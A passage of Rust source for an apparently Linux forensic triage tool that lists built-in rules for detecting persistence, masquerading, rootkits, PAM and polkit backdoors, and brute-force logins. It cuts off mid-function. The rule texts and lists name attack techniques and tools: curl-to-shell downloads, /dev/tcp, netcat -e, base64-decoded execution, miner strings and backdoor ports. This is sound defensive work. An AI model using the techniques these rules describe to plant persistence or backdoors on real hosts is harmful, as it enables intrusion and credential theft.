//! The built-in rules. Each documents what it catches, its MITRE ATT&CK technique and its
//! known false positives (shown by `dossier rules --long`). Weights and severities are defaults;
//! the playbook may change them.

use crate::context::{At, Ctx, canonical, program};
use crate::engine::{AnalysisConfig, BundleInput};
use aho_corasick::AhoCorasick;
use dossier_plugin_api::analysis::{Evidence, Finding, Ioc, Severity};
use dossier_plugin_api::records::UnitRecord;

/// A rule as the engine runs it.
pub struct RuleInfo {
    pub id: &'static str,
    pub title: &'static str,
    pub mitre: &'static [&'static str],
    pub severity: Severity,
    pub weight: u32,
    /// Collectors whose records the rule reads.
    pub needs: &'static [&'static str],
    /// Needs package ownership (a package database in the bundle).
    pub needs_packages: bool,
    /// Needs at least one record of each `(collector, kind)`: data a collector that ran may
    /// still lack (loaded modules exist only on live hosts).
    pub needs_kinds: &'static [(&'static str, &'static str)],
    /// What it catches and its false positives.
    pub doc: &'static str,
    pub run: fn(&Ctx, &AnalysisConfig, &mut BundleInput<'_>) -> Vec<Finding>,
}

/// Every built-in rule, in report order.
pub static CATALOG: &[RuleInfo] = &[
    RuleInfo {
        id: "exec-unusual-path",
        title: "Executable in an unusual path or disguised as a system name",
        mitre: &["T1036.005"],
        severity: Severity::High,
        weight: 30,
        needs: &[],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A process, unit or cron entry runs a program from /tmp, /var/tmp, /dev/shm, /run, /var/log, /boot or a hidden directory, or an unowned program with a system-looking name, in a system binary directory, or held in memory only (a /memfd: executable, fileless). FP: self-built tools deliberately run from /run or a dot-directory; vendor agents installed outside the package manager into /usr/bin.",
        run: exec_unusual_path,
    },
    RuleInfo {
        id: "unit-name-mismatch",
        title: "Unit name does not match the binary it runs",
        mitre: &["T1036.004"],
        severity: Severity::Medium,
        weight: 10,
        needs: &["systemd"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A service unit that no package owns runs a program whose name shares nothing with the unit's (python.service running /var/log/log). Interpreters are not judged. FP: local services named after their purpose rather than their binary (backup.service running restic).",
        run: unit_name_mismatch,
    },
    RuleInfo {
        id: "root-cron-reboot",
        title: "@reboot entry in root's crontab",
        mitre: &["T1053.003"],
        severity: Severity::High,
        weight: 20,
        needs: &["cron"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A cron entry with the @reboot schedule runs as root. FP: administrators starting a legacy daemon at boot from cron.",
        run: root_cron_reboot,
    },
    RuleInfo {
        id: "cron-suspicious-path",
        title: "System cron directories point at a suspicious path",
        mitre: &["T1053.003"],
        severity: Severity::Medium,
        weight: 10,
        needs: &["cron"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "/etc/crontab, /etc/cron.d or /etc/cron.{hourly,...} run a program from an unusual location or one that no package owns, or hold a script no package owns. FP: site-local maintenance scripts in /usr/local or /etc/cron.daily.",
        run: cron_suspicious_path,
    },
    RuleInfo {
        id: "exec-unowned",
        title: "Executable not owned by any installed package",
        mitre: &["T1105"],
        severity: Severity::Medium,
        weight: 15,
        needs: &["packages"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "A program run by a process, unit or cron entry belongs to no installed package. FP: software installed from tarballs, containers' own binaries, language runtimes under /opt.",
        run: exec_unowned,
    },
    RuleInfo {
        id: "miner-strings",
        title: "Suspicious strings / miner keywords in an executable",
        mitre: &["T1496"],
        severity: Severity::High,
        weight: 10,
        needs: &[],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A copied executable contains keywords from the playbook (stratum+tcp://, xmrig, --donate-level, pool names), matched case-insensitively with Aho-Corasick. Only executables copied into the bundle are scanned. FP: security tools and miner-detection software that embed the same strings.",
        run: miner_strings,
    },
    RuleInfo {
        id: "unit-local-unowned",
        title: "Unit created locally in /etc/systemd/system and not owned by a package",
        mitre: &["T1543.002"],
        severity: Severity::Low,
        weight: 5,
        needs: &["systemd"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "A unit file (not a link) in /etc/systemd/system that no package owns. FP: units written by administrators or configuration management.",
        run: unit_local_unowned,
    },
    RuleInfo {
        id: "deleted-exe-running",
        title: "Process running from a deleted executable",
        mitre: &["T1070.004"],
        severity: Severity::High,
        weight: 25,
        needs: &["proc"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A process's executable was deleted after it started (the copy read through /proc/PID/exe is in the bundle). FP: daemons not restarted after a package upgrade replaced their binary.",
        run: deleted_exe_running,
    },
    RuleInfo {
        id: "process-masquerade",
        title: "Process name masquerading (kernel-thread name or argv[0] unlike its executable)",
        mitre: &["T1036.004", "T1036.005"],
        severity: Severity::High,
        weight: 25,
        needs: &["proc"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A user-space process calls itself like a kernel thread ([kworker/0:1], or a kernel thread's bare name such as kworker or ksoftirqd, while it has an executable) or its argv[0] names a different program than its executable. Login shells (-bash), interpreters and busybox applets, daemons that rewrite their title (\"sshd: user\", \"nginx: master process\", (sd-pam)), programs re-executed through /proc/self/exe, memfd executables (judged by deleted-exe-running and exec-unusual-path) and a packaged name for a packaged executable (mysqld -> mariadbd) are not judged. FP: programs that set argv[0] to a role name (some supervisors); setproctitle titles in brackets.",
        run: process_masquerade,
    },
    RuleInfo {
        id: "package-hash-mismatch",
        title: "Package binary differs from the package database",
        mitre: &["T1554"],
        severity: Severity::Critical,
        weight: 30,
        needs: &["packages"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "A file that a package owns, and that a process, unit or cron entry runs, hashes differently from the package's digest list. Configuration files under /etc are not judged. FP: binaries patched by hand or by prelink; a corrupted package database.",
        run: package_hash_mismatch,
    },
    RuleInfo {
        id: "inline-shell-download",
        title: "Inline shell or download-and-execute in a unit or cron command",
        mitre: &["T1059.004", "T1105"],
        severity: Severity::High,
        weight: 20,
        needs: &[],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A unit's Exec* line or a cron command pipes a download into a shell, uses /dev/tcp, decodes base64, starts an interactive shell or netcat with -e; or (when no package owns the unit or crontab) runs `sh -c`/`bash -c`. FP: installers run from cron by administrators; packaged units using sh -c are not flagged.",
        run: inline_shell_download,
    },
    RuleInfo {
        id: "aggressive-timer-unowned",
        title: "Aggressive timer on a unit no package owns",
        mitre: &["T1053.006"],
        severity: Severity::Medium,
        weight: 15,
        needs: &["systemd"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "A timer that no package owns fires every few minutes or less (OnUnitActiveSec/OnBootSec up to 5 min, minutely calendars). FP: local monitoring timers.",
        run: aggressive_timer,
    },
    RuleInfo {
        id: "interpreter-listening",
        title: "Shell or interpreter listening on a socket",
        mitre: &["T1059"],
        severity: Severity::High,
        weight: 20,
        needs: &["sockets"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A listening TCP/UDP socket belongs to a shell, netcat/socat or a script interpreter (bind shell). FP: development servers (python -m http.server), Node/Ruby application servers.",
        run: interpreter_listening,
    },
    RuleInfo {
        id: "renamed-process-listening",
        title: "Renamed or fileless process listening on a socket",
        mitre: &["T1036.004", "T1036.005", "T1571"],
        severity: Severity::High,
        weight: 20,
        needs: &["sockets", "proc"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A listening TCP/UDP socket belongs to a process whose name does not fit its executable (decided as process-masquerade does: a kernel-thread name such as [kworker/0:1] or kworker with an executable, or an argv[0] naming another program), or whose executable was deleted or is a memfd (runs from memory only): a backdoor hiding behind a harmless name. Process titles (sshd: user@pts/0, nginx: master process, postgres: ...), (sd-pam), interpreters run under their versioned name, busybox applets and packaged symlinks are not judged. FP: daemons still listening after a package upgrade replaced their binary (the finding says when a package owns the deleted path); programs that set argv[0] to a role name.",
        run: renamed_process_listening,
    },
    RuleInfo {
        id: "suspicious-port",
        title: "Listener on or connection to a known miner/backdoor port",
        mitre: &["T1571"],
        severity: Severity::Medium,
        weight: 15,
        needs: &["sockets"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A socket listens on, or is connected to a remote, port in the playbook's list (stratum pools 3333/4444/5555/7777/14444/45700, backdoors 1337/31337, IRC 6667). FP: legitimate services configured on those ports.",
        run: suspicious_port,
    },
    RuleInfo {
        id: "ld-preload-process",
        title: "LD_PRELOAD in a running process",
        mitre: &["T1574.006"],
        severity: Severity::Medium,
        weight: 20,
        needs: &["proc"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A process runs with LD_PRELOAD set (library injection, userland rootkits). FP: profilers, fakeroot, jemalloc/tcmalloc preloads, some accessibility tools.",
        run: ld_preload,
    },
    RuleInfo {
        id: "account-extra-uid0",
        title: "Account other than root with uid 0",
        mitre: &["T1136.001", "T1078.003"],
        severity: Severity::Critical,
        weight: 40,
        needs: &["accounts"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "/etc/passwd holds an account other than `root` with uid 0: it is root under another name, the classic backdoor account (often named like a service: `systemd-netd`, `sysadm`). Its password status (usable, locked...) is in the finding. FP: BSD-style `toor` accounts and recovery accounts some appliances ship; both are rare on Linux.",
        run: account_extra_uid0,
    },
    RuleInfo {
        id: "system-account-usable",
        title: "Service account (uid < 1000) made usable for login",
        mitre: &["T1078.003"],
        severity: Severity::High,
        weight: 30,
        needs: &["accounts"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A non-root account with uid below 1000 (www-data, daemon, backup...) has a login shell listed in /etc/shells together with a usable (or empty) password, or - when the ssh-keys plugin collected authorized keys - a login shell and an authorized key. Service accounts are normally locked with nologin; an intruder makes one usable to log back in unnoticed. FP: deliberately created system users for deployment or backup logins (e.g. a `git` account with a shell and keys); distributions whose UID_MIN is not 1000.",
        run: system_account_usable,
    },
    RuleInfo {
        id: "sudo-nopasswd-all",
        title: "Password-less sudo to everything for a non-admin account",
        mitre: &["T1548.003"],
        severity: Severity::High,
        weight: 30,
        needs: &["accounts"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A sudoers rule read by sudo grants NOPASSWD: ALL to a user who is not root and not a member of sudo/wheel/admin, or to a group other than those: anyone controlling that account (a web server's www-data, a service account) becomes root without a password. FP: cloud images' default user (`ubuntu`, `admin`, `ec2-user` in /etc/sudoers.d/90-cloud-init-users) when it is not also in the sudo group; CI runners given root on purpose.",
        run: sudo_nopasswd_all,
    },
    RuleInfo {
        id: "boot-hook-unowned",
        title: "Boot or event hook not owned by a package, or modified",
        mitre: &["T1037.004", "T1037", "T1546.017"],
        severity: Severity::Medium,
        weight: 15,
        needs: &["hooks"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "An active init script (/etc/init.d, or an rc?.d entry that is not a link into it), /etc/rc.local, an update-motd.d script, an XDG autostart entry or a udev rule with RUN is not owned by any package, or differs from its package's digest (conffiles included). Inactive files (not executable, not sourced) are not judged. FP: rc.local and motd scripts written by administrators, configuration management, conffiles edited by hand (they show as modified).",
        run: boot_hook_unowned,
    },
    RuleInfo {
        id: "login-hook-unowned",
        title: "System-wide shell profile not owned by a package, or modified",
        mitre: &["T1546.004"],
        severity: Severity::Medium,
        weight: 15,
        needs: &["hooks"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "/etc/profile, a sourced /etc/profile.d/*.sh or /etc/bash.bashrc is not owned by any package or differs from its package's digest: code that runs in every login shell, root's included. Users' own dotfiles belong to no package and are judged by content only (hook-malicious-content). FP: site profile.d scripts (proxy settings, PATH additions) and edited /etc/bash.bashrc.",
        run: login_hook_unowned,
    },
    RuleInfo {
        id: "hook-malicious-content",
        title: "Boot, login, package-manager or auth hook downloads and executes, opens /dev/tcp, decodes base64 or backgrounds a shell",
        mitre: &["T1059.004", "T1546.004", "T1037"],
        severity: Severity::High,
        weight: 30,
        needs: &["hooks"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A line (not a comment) of an active boot or login hook - init scripts, rc.local, profiles, users' .bashrc/.profile/..., motd scripts, autostart entries, udev rules - or of a package-manager or auth hook - apt configuration, yum/dnf plugin code, PAM service files, polkit rules - pipes curl/wget into a shell (or runs $(curl ...)), uses /dev/tcp or /dev/udp, decodes base64 into a shell/eval/exec, or starts a shell, netcat or a program from /tmp-like places in the background; or a command parsed out of apt or PAM syntax (an apt hook, a pam_exec command) does so or runs a program from /tmp, /dev/shm, /run, /var/log or a hidden directory. Files verified unchanged against their package are not read. FP: installer one-liners pasted into a user's .bashrc; udev rules of vendor tools that background helpers.",
        run: hook_malicious_content,
    },
    RuleInfo {
        id: "generator-unowned",
        title: "Executable systemd generator not owned by a package",
        mitre: &["T1543", "T1543.002"],
        severity: Severity::High,
        weight: 30,
        needs: &["systemd"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "An executable in a systemd generator directory (/etc, /run, /usr/local/lib, /usr/lib ...system-generators, user and environment generators too) belongs to no package. Generators run as root early at every boot and daemon-reload and can create units on the fly, which no unit file on disk reveals. FP: generators installed from source or by vendor installers into /usr/local/lib/systemd.",
        run: generator_unowned,
    },
    RuleInfo {
        id: "pkg-manager-hook",
        title: "Package-manager hook or plugin not owned by a package, or modified",
        mitre: &["T1546.016"],
        severity: Severity::High,
        weight: 20,
        needs: &["hooks"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "An apt configuration file that apt reads (/etc/apt/apt.conf, /etc/apt/apt.conf.d/* named as apt accepts) sets DPkg::Pre-Invoke, DPkg::Post-Invoke, DPkg::Pre-Install-Pkgs, DPkg::Post-Invoke-Success or APT::Update::{Pre,Post}-Invoke[-Success] commands and is not owned by any package or differs from its package's digest; or the code of an enabled yum/dnf plugin (*.py in yum-plugins or dnf-plugins) is. Those commands run as root at every package operation or index update (T1546.016, installer packages). Hooks whose every command is housekeeping (rm, test, true, [ and :, as in the docker images' docker-clean) are not reported; enabled plugin configuration alone is not judged, only plugin code. FP: configuration management writing its own apt hooks (e.g. etckeeper-like snapshots, needrestart copies edited by hand), vendor plugins installed outside the package manager.",
        run: pkg_manager_hook,
    },
    RuleInfo {
        id: "pam-exec-hook",
        title: "PAM runs a command through pam_exec",
        mitre: &["T1556.003"],
        severity: Severity::High,
        weight: 30,
        needs: &["hooks"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A PAM service file that PAM reads (/etc/pam.d/*, or /etc/pam.conf when /etc/pam.d is absent) loads pam_exec.so with a command, and the file is not a package's unchanged copy: the command runs at every authentication, session or password change of that service, as root, and with expose_authtok it receives the typed password on stdin (credential capture, T1556.003). Distributions ship no pam_exec line by default. The explanation says whether the program is owned by a package and whether it lives in an unusual place. FP: sites using pam_exec for login notifications, home-directory setup or in-house MFA; they are rare and worth confirming.",
        run: pam_exec_hook,
    },
    RuleInfo {
        id: "pam-module-unowned",
        title: "PAM module not owned by a package, or modified",
        mitre: &["T1556.003"],
        severity: Severity::Critical,
        weight: 40,
        needs: &["hooks"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "A module that an active PAM line loads (resolved against the PAM module directories, or given by absolute path) exists but no package owns it, or it differs from its package's digest. A PAM module runs inside sshd, login, su and sudo with the plaintext password in reach: a backdoored pam_unix or an extra module named like a stock one (pam_unix2.so, pam_systemd_home.so in the wrong place) is a classic credential-stealing and master-password backdoor (T1556.003). Missing modules are recorded but not judged (PAM fails that line). FP: third-party modules installed from vendor tarballs or built from source (Duo, Google Authenticator, AD join agents), which belong in a package.",
        run: pam_module_unowned,
    },
    RuleInfo {
        id: "polkit-rule-unowned",
        title: "Polkit rule not owned by a package grants authorization without authentication",
        mitre: &["T1548"],
        severity: Severity::High,
        weight: 30,
        needs: &["hooks"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "A polkit JavaScript rule (/etc/polkit-1/rules.d, /usr/share/polkit-1/rules.d) or legacy .pkla file, not owned by a package or differing from its package's digest, returns polkit.Result.YES (ResultAny/ResultInactive/ResultActive=yes) for any subject or for a subject that is not an administrator (root, wheel, sudo, admin): that account can then start units, mount, reboot or run pkexec programs as root without a password, an abuse of an elevation-control mechanism (T1548; not T1484, which is about domain policy). Textual reading without a JavaScript engine: each YES is paired with the subject.user == and subject.isInGroup() conditions written between its addRule( and it (at most 4 KiB back), comments removed; conditions built in variables or helper functions are not followed, so such a rule shows as a grant to any subject. Rules that only return AUTH_ADMIN, or YES for administrators, are not reported. FP: site rules letting a monitoring or deployment account manage specific units without a password.",
        run: polkit_rule_unowned,
    },
    RuleInfo {
        id: "ld-so-preload",
        title: "Library named in /etc/ld.so.preload",
        mitre: &["T1574.006"],
        severity: Severity::Critical,
        weight: 40,
        needs: &["kernel"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "/etc/ld.so.preload names a library: the dynamic loader injects it into every dynamically linked program, which is how userland rootkits (Azazel, Jynx, libprocesshider) hide processes and files and steal credentials. Any name counts, whatever it is called. FP: a few monitoring or auditing tools (snoopy) and allocator tuning installed this way; they are rare on servers and worth confirming.",
        run: ld_so_preload,
    },
    RuleInfo {
        id: "ld-so-conf-unusual",
        title: "Loader search path includes an unusual directory",
        mitre: &["T1574.006"],
        severity: Severity::High,
        weight: 30,
        needs: &["kernel"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "/etc/ld.so.conf or a file of /etc/ld.so.conf.d adds a library directory under /tmp, /var/tmp, /dev/shm, /run, /var/log or a hidden directory: libraries there shadow the system's for every program. FP: none known for those locations.",
        run: ld_so_conf_unusual,
    },
    RuleInfo {
        id: "kernel-module-hidden",
        title: "Kernel module hidden from /proc/modules",
        mitre: &["T1014"],
        severity: Severity::Critical,
        weight: 40,
        needs: &["kernel"],
        needs_packages: false,
        needs_kinds: &[("kernel", "kernel_module")],
        doc: "A module has a /sys/module/<name> directory with an initstate (so it is a loaded module, not built-in code) but /proc/modules does not list it: kernel rootkits unlink themselves from the module list. Live hosts only. FP: a module loading or unloading at the instant of collection (initstate `coming`/`going`).",
        run: kernel_module_hidden,
    },
    RuleInfo {
        id: "kernel-module-unowned",
        title: "Loaded kernel module not provided by any package",
        mitre: &["T1547.006"],
        severity: Severity::High,
        weight: 20,
        needs: &["kernel"],
        needs_packages: true,
        needs_kinds: &[("kernel", "kernel_module")],
        doc: "A loaded module's file (from the running kernel's modules.dep) belongs to no installed package, or the module is loaded but modules.dep knows no file for it (inserted with insmod from elsewhere). Live hosts only. FP: DKMS-built modules (nvidia, zfs, virtualbox under updates/dkms), vendor drivers installed from tarballs.",
        run: kernel_module_unowned,
    },
    RuleInfo {
        id: "modprobe-install-command",
        title: "modprobe configuration runs a suspicious command",
        mitre: &["T1547.006", "T1059.004"],
        severity: Severity::High,
        weight: 30,
        needs: &["kernel"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "An `install` or `remove` directive in modprobe.d runs a command as root whenever the module is loaded or removed, and that command downloads and executes, uses /dev/tcp, decodes base64, backgrounds a shell, or runs a program from /tmp-like or hidden places. `/bin/true`/`/bin/false` blacklisting is ordinary. FP: vendor scripts in unusual places.",
        run: modprobe_install_command,
    },
    RuleInfo {
        id: "path-hijack",
        title: "Unowned script, or program named like a trusted tool, in /usr/local/{sbin,bin} shadowing a packaged one",
        mitre: &["T1574.007"],
        severity: Severity::High,
        weight: 30,
        needs: &["local-bin"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "A file in /usr/local/sbin or /usr/local/bin, which come first in PATH, has the name of a program a package installs in /usr/bin, /usr/sbin, /bin or /sbin, no package owns it (links to the packaged file are fine), and it is either a script (a wrapper that filters the real program's output or records what is typed) or takes the name of a program responders and administrators trust to see or to authenticate (ps, ls, netstat, ss, top, lsof, find, sudo, su, passwd, ssh, login, systemctl, crontab ...): every shell and script calling that name runs it instead. Unowned compiled programs with other names (a locally built git) are path-shadow-unowned. FP: administrators' wrapper scripts (a sudo wrapper that logs, a proxy-setting curl wrapper).",
        run: path_hijack,
    },
    RuleInfo {
        id: "path-shadow-unowned",
        title: "Locally installed program in /usr/local/{sbin,bin} shadowing a packaged one",
        mitre: &["T1574.007"],
        severity: Severity::Low,
        weight: 5,
        needs: &["local-bin"],
        needs_packages: true,
        needs_kinds: &[],
        doc: "An unowned compiled program (not a script) in /usr/local/sbin or /usr/local/bin shadows a packaged program of the same name whose name is not one of those path-hijack watches: usually a newer version built from source (git, python3, vim, curl from `make install`). Listed so its origin can be checked against the build it claims to be; scored low. FP: that is the usual case.",
        run: path_shadow_unowned,
    },
    RuleInfo {
        id: "promiscuous-interface",
        title: "Network interface in promiscuous mode",
        mitre: &["T1040"],
        severity: Severity::Medium,
        weight: 15,
        needs: &["netif"],
        needs_packages: false,
        needs_kinds: &[("netif", "net_interface")],
        doc: "An interface has the PROMISC flag: it receives every frame on the wire, as a sniffer capturing credentials needs. Ports of a bridge (set promiscuous by the bridge) are not judged. Live hosts only. FP: tcpdump or wireshark running at collection time, IDS sensors, hypervisor and container networking outside Linux bridges.",
        run: promiscuous_interface,
    },
    RuleInfo {
        id: "duplicate-mac",
        title: "Two physical adapters share a MAC address",
        mitre: &["T1557"],
        severity: Severity::Medium,
        weight: 10,
        needs: &["netif"],
        needs_packages: false,
        needs_kinds: &[("netif", "net_interface")],
        doc: "Two physical adapters (not enslaved to a bond, team or bridge) report the same MAC address, or an adapter's MAC differs from its permanent address to equal another's: a spoofed address, used to impersonate a host on the segment. Live hosts only. FP: failover setups that copy MACs by hand, some virtual NIC drivers reporting a device.",
        run: duplicate_mac,
    },
    RuleInfo {
        id: "odd-login-user",
        title: "Session with an odd user name in utmp/wtmp",
        mitre: &["T1078"],
        severity: Severity::High,
        weight: 30,
        needs: &["sessions"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A user session (USER_PROCESS) in utmp or wtmp names the user `LOGIN`, nobody, or a name with spaces, control or non-ASCII bytes: tools that forge or wipe login records leave such entries, and backdoors log in under names that do not look like users. getty's LOGIN_PROCESS entries named LOGIN are normal and not judged. FP: corrupted records after a crash.",
        run: odd_login_user,
    },
    RuleInfo {
        id: "failed-login-burst",
        title: "Burst of failed logins from one source (btmp)",
        mitre: &["T1110"],
        severity: Severity::Low,
        weight: 5,
        needs: &["sessions"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "btmp holds 20 or more failed logins from the same host within 10 minutes: password guessing. FP: every SSH server facing the internet sees this daily; it matters with bruteforce-then-login or on internal hosts.",
        run: failed_login_burst,
    },
    RuleInfo {
        id: "bruteforce-then-login",
        title: "Successful login from a source that had just brute-forced",
        mitre: &["T1110", "T1078"],
        severity: Severity::High,
        weight: 30,
        needs: &["sessions"],
        needs_packages: false,
        needs_kinds: &[],
        doc: "A source with a burst of failed logins in btmp (see failed-login-burst) later has a successful session in wtmp or utmp: the guessing worked. FP: an administrator who mistyped a password many times from a script.",
        run: bruteforce_then_login,
    },
];

fn finding(
    subject: impl Into<String>,
    explanation: impl Into<String>,
    evidence: Vec<Evidence>,
    iocs: Vec<Ioc>,
) -> Finding {
    Finding {
        rule: String::new(),
        title: String::new(),
        mitre: vec![],
        severity: Severity::Info,
        weight: 0,
        explanation: explanation.into(),
        subject: subject.into(),
        evidence,
        iocs,
    }
}

fn base(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

const UNUSUAL_DIRS: &[&str] = &[
    "/tmp/",
    "/var/tmp/",
    "/dev/shm/",
    "/run/",
    "/var/run/",
    "/var/log/",
    "/boot/",
    "/dev/",
];
/// Whether a (canonical) path is where distribution packages put programs: directly in
/// `/usr/bin`, `/usr/sbin` or `/`, or anywhere under `/usr/lib*` and `/usr/libexec`.
fn in_system_bin_dir(c: &str) -> bool {
    let parent = c.rsplit_once('/').map_or("", |(p, _)| p);
    matches!(parent, "/usr/bin" | "/usr/sbin" | "")
        || ["/usr/lib/", "/usr/lib64/", "/usr/libexec/"]
            .iter()
            .any(|d| c.starts_with(d))
}
const DISGUISE_NAMES: &[&str] = &[
    "log",
    "kworker",
    "kthreadd",
    "ksoftirqd",
    "kswapd0",
    "kdevtmpfs",
    "systemd",
    "systemd-journald",
    "sshd",
    "crond",
    "cron",
    "atd",
    "dbus-daemon",
    "rsyslogd",
    "syslogd",
    "udevd",
    "init",
    "python",
    "python3",
    "perl",
    "httpd",
    "nginx",
    "mysqld",
    "ntpd",
    "sysupdate",
    "networkservice",
    "watchdog",
    "migration",
];
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "csh", "tcsh", "ash", "busybox", "python", "python2",
    "python3", "perl", "ruby", "php", "node", "nodejs", "java", "lua", "tclsh", "nc", "ncat",
    "netcat", "socat",
];

fn is_interpreter(name: &str) -> bool {
    let n = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    INTERPRETERS.contains(&name)
        || INTERPRETERS.contains(&n)
        || n.starts_with("python")
        || n.starts_with("php")
}

/// Why a path is an unusual place for a program, if it is.
pub fn unusual_location(path: &str) -> Option<String> {
    if let Some(d) = UNUSUAL_DIRS.iter().find(|d| path.starts_with(*d)) {
        return Some(format!("it lives in {}", d.trim_end_matches('/')));
    }
    if path
        .split('/')
        .any(|c| c.starts_with('.') && c != "." && c != "..")
    {
        return Some("its path has a hidden (dot) component".into());
    }
    None
}

/// Programs run by processes, units and cron entries: (path, referrer, evidence).
fn referenced_programs(ctx: &Ctx) -> Vec<(String, String, Vec<Evidence>)> {
    let mut out = Vec::new();
    for p in &ctx.procs {
        if let (Some(exe), false) = (&p.rec.exe, p.rec.kernel_thread) {
            out.push((
                exe.clone(),
                format!("process {} ({})", p.rec.pid, p.rec.comm),
                ctx.ev(p, format!("process {}", p.rec.pid), None),
            ));
        }
    }
    for u in &ctx.units {
        for cmd in unit_commands(&u.rec) {
            if let Some(prog) = program(cmd) {
                out.push((
                    prog,
                    format!("unit {}", u.rec.name),
                    ctx.ev(u, format!("unit {}", u.rec.name), Some(&u.rec.source)),
                ));
            }
        }
    }
    for c in &ctx.cron {
        for prog in segment_programs(&c.rec.command) {
            out.push((
                prog,
                format!("cron {}:{}", c.rec.source.path, c.rec.line),
                ctx.ev(
                    c,
                    format!("cron entry {}:{}", c.rec.source.path, c.rec.line),
                    Some(&c.rec.source),
                ),
            ));
        }
    }
    out
}

fn unit_commands(u: &UnitRecord) -> impl Iterator<Item = &String> {
    u.exec_start
        .iter()
        .chain(&u.exec_start_pre)
        .chain(&u.exec_start_post)
        .chain(&u.exec_stop)
        .chain(&u.exec_reload)
}

/// Programs of each segment of a shell command line (split at `;`, `&&`, `||`, `|`).
pub fn segment_programs(cmd: &str) -> Vec<String> {
    cmd.split([';', '|', '&', '(', ')', '`'])
        .filter_map(program)
        .collect()
}

fn exec_unusual_path(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    let mut out = Vec::new();
    for (path, who, ev) in referenced_programs(ctx) {
        let owned = ctx.has_package_db && ctx.is_owned(&path);
        let why = unusual_location(&path).or_else(|| {
            // Only judge names and places of files known to exist (a missing file is no binary).
            if !ctx.has_package_db
                || owned
                || ctx
                    .verified(&path)
                    .is_some_and(|v| v.rec.status == "missing")
            {
                return None;
            }
            let c = canonical(&path);
            if DISGUISE_NAMES.contains(&base(&path)) {
                Some(format!(
                    "no package owns it and its name imitates the system program `{}`",
                    base(&path)
                ))
            } else if path.starts_with("/memfd:") {
                Some(
                    "no file on disk holds it: it is a memory-only (fileless) executable created with memfd_create"
                        .into(),
                )
            } else if in_system_bin_dir(&c) {
                Some("no package owns it, yet it sits in a system binary directory".into())
            } else {
                None
            }
        });
        if let Some(why) = why {
            let sha = ctx.verified(&path).and_then(|v| v.rec.sha256.clone());
            let mut iocs = vec![Ioc::Path(path.clone())];
            iocs.extend(sha.map(Ioc::Sha256));
            out.push(finding(
                &path,
                format!("{who} runs {path}: {why}"),
                ev,
                iocs,
            ));
        }
    }
    out
}

fn tokens(s: &str) -> Vec<String> {
    s.to_ascii_lowercase()
        .split(|c: char| !c.is_ascii_alphanumeric())
        .filter(|t| t.len() >= 3)
        .map(|t| t.trim_end_matches(|c: char| c.is_ascii_digit()).to_string())
        .filter(|t| t.len() >= 3)
        .collect()
}

/// Whether a unit name and a program name plausibly belong together.
pub fn names_match(unit: &str, prog: &str) -> bool {
    let stem = unit
        .rsplit_once('.')
        .map_or(unit, |(s, _)| s)
        .split('@')
        .next()
        .unwrap_or(unit)
        .to_ascii_lowercase();
    let p = prog.to_ascii_lowercase();
    if stem.contains(&p) || p.contains(&stem) {
        return true;
    }
    let (a, b) = (tokens(&stem), tokens(&p));
    a.iter().any(|x| {
        b.iter()
            .any(|y| x.contains(y.as_str()) || y.contains(x.as_str()))
    })
}

fn unit_name_mismatch(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    let mut out = Vec::new();
    for u in ctx.units.iter().filter(|u| u.rec.unit_type == "service") {
        if ctx.has_package_db && ctx.is_owned(&u.rec.path) {
            continue;
        }
        let Some(prog) = u.rec.exec_start.first().and_then(|c| program(c)) else {
            continue;
        };
        let b = base(&prog);
        if is_interpreter(b) || names_match(&u.rec.name, b) {
            continue;
        }
        out.push(finding(
            &u.rec.name,
            format!(
                "unit {} runs {prog}, a binary whose name has nothing in common with the unit's",
                u.rec.name
            ),
            ctx.ev(u, format!("unit {}", u.rec.name), Some(&u.rec.source)),
            vec![Ioc::Unit(u.rec.name.clone()), Ioc::Path(prog.clone())],
        ));
    }
    out
}

fn root_cron_reboot(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    ctx.cron
        .iter()
        .filter(|c| c.rec.special.as_deref() == Some("reboot") && c.rec.run_as == "root")
        .map(|c| {
            let src = &c.rec.source.path;
            finding(
                format!("{src}:{}", c.rec.line),
                format!(
                    "{src} line {} runs `{}` as root at every boot (@reboot)",
                    c.rec.line, c.rec.command
                ),
                ctx.ev(
                    c,
                    format!("cron entry {src}:{}", c.rec.line),
                    Some(&c.rec.source),
                ),
                vec![Ioc::CronCommand(c.rec.command.clone())],
            )
        })
        .collect()
}

fn suspicious_path(ctx: &Ctx, path: &str) -> Option<String> {
    if path == "/dev/null" {
